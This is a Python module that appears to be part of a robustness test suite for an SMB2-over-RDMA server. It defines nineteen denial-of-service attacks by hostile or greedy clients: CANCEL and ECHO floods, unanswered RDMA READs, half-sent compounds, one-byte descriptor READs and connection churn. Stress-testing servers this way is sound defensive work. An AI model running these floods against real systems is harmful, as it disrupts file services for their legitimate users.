# SPDX-License-Identifier: MIT
"""What a hostile client, or one that only asks for much, can do with SMB2. Each function is one attack
(lib/ground.py); the table is at the end."""

import contextlib
import os
import signal
import socket
import struct

from lib import rdma, smb2
from lib.ground import ENDED, Flood
from lib.smbdirect import descriptors

MIB = 1 << 20
NOBODY = b"\xff" * 16
ECHO_IN_CHAIN = 72  # bytes


def unread_write(c, length, *parts):
    """An RDMA-channel WRITE whose RDMA READs are not answered."""
    c.transport.iwarp.answer_reads = False
    info = descriptors(*parts)
    body = smb2.write_body(NOBODY, b"", 0, channel=1, info=info, remaining=length)
    c.transport.send_pdu(c.build(smb2.WRITE, body, charge=smb2.charge_for(length)))


def hold_and_pump(g, clients):
    """The connections stay, and what the server sends on them is taken."""
    while not g.over():
        for c in clients:
            with contextlib.suppress(*ENDED, AssertionError):
                c.transport.pump(0.01)
        g.rest(0.05)


def colliding_echoes(count):
    """A compound of ECHOs whose MessageIds times the golden ratio are small numbers: their upper bits are all the same."""
    back = pow(0x9E3779B97F4A7C15, -1, 1 << 64)
    ids = [n * back % (1 << 64) for n in range(1, count + 1)]
    chain = b"".join(smb2.header(smb2.ECHO, n, next_command=ECHO_IN_CHAIN) + smb2.ECHO_BODY + bytes(4) for n in ids[:-1])
    return chain + smb2.header(smb2.ECHO, ids[-1]) + smb2.ECHO_BODY


# --- nobody is logged in ---


def unanswered_reads(g):
    """WRITEs of all the memory there is, and no RDMA READ of theirs is answered."""
    clients = g.many(30, g.negotiated)
    for c in clients:
        for _ in range(6):
            with contextlib.suppress(*ENDED):
                unread_write(c, MIB, (0, 0x1234, MIB))
                g.did += 1
    hold_and_pump(g, clients)


def half_compounds(g):
    """The beginnings of compounds as long as messages may be."""
    for c in g.many(30, g.negotiated):
        first = c.build(smb2.ECHO, smb2.ECHO_BODY + bytes(4), next_command=72)
        with contextlib.suppress(*ENDED):
            c.transport.send_message((first + bytes(112))[:112], remaining=MIB - 112, credits_granted=10)
            g.did += 1
    g.rest()


def half_requests(g):
    """The beginnings of READs that ask for as much as fits."""
    for c in g.many(30, g.negotiated):
        pdu = c.build(smb2.READ, smb2.read_body(NOBODY, MIB, 0), charge=16) + bytes(64)
        with contextlib.suppress(*ENDED):
            c.transport.send_message(pdu[:112], remaining=len(pdu) - 112, credits_granted=10)
            g.did += 1
    g.rest()


def one_byte_pieces(g):
    """A WRITE of 2,048 bytes in as many pieces, no RDMA READ answered; then all credits are used for CANCELs."""

    def once():
        c = g.negotiated()
        t = c.transport
        unread_write(c, 2048, *((i, 0x77, 1) for i in range(2048)))
        t.auto_grant = t.auto_answer = False
        t.iwarp.pump(0.3)
        while t.send_credits > 0 and not g.over():
            t.send_message(smb2.header(smb2.CANCEL, 9) + smb2.ECHO_BODY, credits_granted=0)
        t.pump(0.5)

    g.again(once)


def cancel_flood(g, stopped=False):
    """CANCELs, each in two fragments: no answer, no credit, and nothing that is awaited."""
    before = set(g.smbd.client_pids())
    c = g.negotiated()
    mine = set(g.smbd.client_pids()) - before if stopped else set()
    for pid in mine:
        os.kill(pid, signal.SIGSTOP)
    try:
        flood = Flood(c.transport)
        flood.owed = c.transport.grantable()
        pdu = smb2.header(smb2.CANCEL, 5) + smb2.ECHO_BODY
        halves = flood.template(pdu[:34], remaining=34), flood.template(pdu[34:])
        while not g.over():
            count = min(250, (flood.t.send_credits - 4) // 2)
            if count > 0:
                flood.send([flood.frame(b"")] + flood.filled(halves, count))
                g.did += count
            flood.receive(2)
    except ENDED:
        pass
    finally:
        for pid in mine:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGCONT)
    g.rest()


def cancel_flood_smbd_stands(g):
    """The same, and smbd's process for this client does not read."""
    cancel_flood(g, stopped=True)


def flood_of(g, command, body):
    """Requests of nobody's session as fast as credits come; smbd refuses each."""

    def once():
        c = g.negotiated()
        flood = Flood(c.transport)
        flood.owed = c.transport.grantable()
        number = 1
        while not g.over():
            frames = []
            for _ in range(min(100, flood.t.send_credits - 2)):
                frames.append(flood.frame(smb2.header(command, number, credits=512) + body))
                number += 1
            if frames:
                flood.send(frames)
                g.did += len(frames)
            flood.receive()

    g.again(once)


def echo_flood(g):
    flood_of(g, smb2.ECHO, smb2.ECHO_BODY)


def session_setup_garbage(g):
    token = os.urandom(200)
    flood_of(g, smb2.SESSION_SETUP, struct.pack("<HBBIIHHQ", 25, 0, 1, 1, 0, 88, len(token), 0) + token)


def come_and_go(g):
    """NEGOTIATE under a new ClientGuid, and away."""

    def once():
        g.negotiated(clients=30)
        g.drop()
        g.rest(0.02)  # each costs the machine a process of smbd's

    g.again(once)


def silent_after_negotiate(g):
    """Every place of the pool taken by somebody who has not logged in and says nothing."""
    while not g.over():
        g.did += len(g.many(4, lambda: g.negotiated(clients=12)))
        g.drop(keep=60)


# --- guests ---


def scattered_memory(g):
    """An honest client whose memory is in pieces of 4 KiB: many WRITEs under way, each READ answered."""

    def once():
        c = g.session()
        f = c.create("scattered")
        c.timeout = 2
        while c.credits < 24 * 16 + 10:
            c.echo().check()
        memory = rdma.expose(c, bytearray(os.urandom(MIB)), "r")
        info = rdma.describe(memory, 0, MIB, splits=range(4096, MIB, 4096))
        ids = [rdma.send_channel_write(c, f, memory.memory, k * MIB, region=memory, info=info)[0] for k in range(24)]
        for message_id in ids:
            c.wait(message_id).check()
            g.did += 1

    g.again(once)


def one_byte_reads(g):
    """READs into memory of as many pieces as a request can name, a byte each: an RDMA WRITE for each byte."""
    (g.smbd.share_path() / "pieces").write_bytes(bytes(65536))
    pieces, at_once = 4095, 3
    info = descriptors(*((2 * i, 0x77, 1) for i in range(pieces)))
    least = at_once * pieces * 24  # bytes that answer

    def ask(c, f, flood):
        frames = []
        for _ in range(at_once):
            pdu = c.build(smb2.READ, smb2.read_body(f, pieces, 0, channel=1, info=info))
            room = c.transport.max_send_size - 24
            for at in range(0, len(pdu), room):
                part = pdu[at : at + room]
                frames.append(flood.frame(part, remaining=len(pdu) - at - len(part), grant=2))
        flood.send(frames)

    clients = []
    for c in g.many(5, g.session):
        f = c.create("pieces", access=0x00120089, disposition=1)
        while c.credits < 60:
            c.echo().check()
        clients.append((c, f, Flood(c.transport)))
    with contextlib.suppress(*ENDED):
        while not g.over():
            for client in clients:
                ask(*client)
            for c, _, _ in clients:
                c.transport.iwarp.sock.settimeout(2)
                come = 0
                while come < least and (data := c.transport.iwarp.sock.recv(MIB)):
                    come += len(data)
            g.did += len(clients) * at_once


def described_for_ever(g):
    """READs of pipes that wait, each with as many descriptors as it can have."""
    info = descriptors(*((i, 0x77, 1) for i in range(4095)))

    def make():
        c = smb2.Client(g.smbdirect())
        c.timeout = 3
        c.start("IPC$", (smb2.SMB_3_0_2,), user=g.smbd.user, password=g.smbd.password, host=g.smbd.netbios_name)
        pipe = c.create("srvsvc")
        while c.credits < 80:
            c.echo().check()
        for _ in range(64):
            c.send_read(pipe, 4095, 0, channel=1, info=info)
            g.did += 1
        c.echo().check()
        return c

    hold_and_pump(g, g.many(24, make))


def pending_notifies(g):
    """Folders are watched, by the hundred: honest, but each answer may come one day and must fit."""
    (g.smbd.share_path() / "watched").mkdir(exist_ok=True)
    clients = g.many(8, g.session)
    for c in clients:
        with contextlib.suppress(*ENDED, smb2.Status):
            d = c.create("watched", options=1, attributes=0x10)
            c.timeout = 0.3
            for _ in range(100):
                c.change_notify(d)
                g.did += 1
    hold_and_pump(g, clients)


def late_cancels(g):
    """An encrypted session whose CANCELs come too late: they have no answer of their own."""

    def once():
        c = g.session(encrypt=True)
        c.timeout = 1
        while not g.over():
            for _ in range(20):
                c.send_pdu(smb2.header(smb2.CANCEL, 1 << 40, session_id=c.session_id) + smb2.ECHO_BODY)
            g.did += 20
            c.echo().check()

    g.again(once)


def compound_reads(g):
    """CREATE, READ, CLOSE in one message, many of a megabyte at once."""
    (g.smbd.share_path() / "compound").write_bytes(bytes(MIB))

    def once():
        c = g.session()
        while c.credits < 200:
            c.echo().check()
        ids = []
        for _ in range(8):
            create = (smb2.CREATE, smb2.create_body("compound", access=0x00120089, disposition=1))
            ids += c.chain(create, (smb2.READ, smb2.read_body(NOBODY, 65536, 0)), (smb2.CLOSE, smb2.close_body(NOBODY)))
        for message_id in ids:
            c.wait(message_id, 2)
            g.did += 1

    g.again(once)


def reads_nobody_takes(g, shut=False):
    """READs of much, and no credit for the answers."""
    (g.smbd.share_path() / "unread").write_bytes(bytes(8 * MIB))

    def make():
        c = g.session(receive_credits=4)
        if shut:
            c.transport.iwarp.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        f = c.create("unread")
        while c.credits < 16 * 8:
            c.echo().check()
        for k in range(8):
            if shut:
                rdma.send_channel_read(c, f, MIB, k * MIB)
            else:
                c.send_read(f, MIB, k * MIB)
            g.did += 1
        return c

    g.many(12, make)
    g.rest()


def shut_windows(g):
    """RDMA-channel READs, and a TCP window that never opens again."""
    reads_nobody_takes(g, shut=True)


def vanished_writers(g):
    """Sessions with WRITEs under way fall silent: no RDMA READ is answered, no byte sent any more."""
    for c in g.many(16, g.session):
        with contextlib.suppress(*ENDED, smb2.Status):
            f = c.create("vanished")
            c.transport.iwarp.answer_reads = False
            while c.credits < 16 * 6:
                c.echo().check()
            for k in range(6):
                info = descriptors((0, 0x1234, MIB))
                body = smb2.write_body(f, b"", k * MIB, channel=1, info=info, remaining=MIB)
                c.transport.send_pdu(c.build(smb2.WRITE, body, charge=16))
                g.did += 1
    g.rest()


ATTACKS = [unanswered_reads, half_compounds, half_requests, one_byte_pieces, cancel_flood, cancel_flood_smbd_stands, echo_flood,
           session_setup_garbage, come_and_go, silent_after_negotiate, scattered_memory, one_byte_reads, described_for_ever, pending_notifies, late_cancels,
           compound_reads, reads_nobody_takes, shut_windows, vanished_writers]  # fmt: skip
